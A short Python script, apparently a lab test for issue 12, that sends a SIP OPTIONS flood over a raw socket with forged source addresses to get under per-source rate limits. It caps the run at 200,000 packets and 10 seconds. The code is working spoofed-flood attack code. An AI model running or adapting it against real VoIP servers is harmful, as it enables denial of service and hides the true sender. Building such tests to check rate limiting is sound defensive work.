#!/usr/bin/env python3
"""A distributed SIP flood from many forged sources, each under any
per-source limit (issue 12): OPTIONS to DST:5060 with source addresses
203.0.113.FIRST..LAST in turn, written with a raw socket. Only for the lab
namespaces. Bounded: at most MAX packets and SECONDS seconds (at most
200,000 and 10 s). Prints how many were sent.

  spoof_flood.py DST SECONDS MAX FIRST LAST
"""
import socket
import struct
import sys
import time

dst, seconds, most = sys.argv[1], min(float(sys.argv[2]), 10.0), min(int(sys.argv[3]), 200_000)
first, last = int(sys.argv[4]), int(sys.argv[5])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
packets = []
for h in range(first, last + 1):
    src = f"203.0.113.{h}"
    payload = (
        f"OPTIONS sip:100@{dst} SIP/2.0\r\nVia: SIP/2.0/UDP {src}:5060;branch=z9hG4bKd{h}\r\n"
        f"From: <sip:x@{src}>;tag={h}\r\nTo: <sip:100@{dst}>\r\nCall-ID: d{h}\r\n"
        "CSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n"
    ).encode()
    udp = struct.pack("!HHHH", 5060, 5060, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), h, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    packets.append(ip + udp)
sent = 0
end = time.time() + seconds
while sent < most and time.time() < end:
    for p in packets:
        try:
            raw.sendto(p, (dst, 0))
            sent += 1
        except OSError:
            time.sleep(0.001)
print(sent)
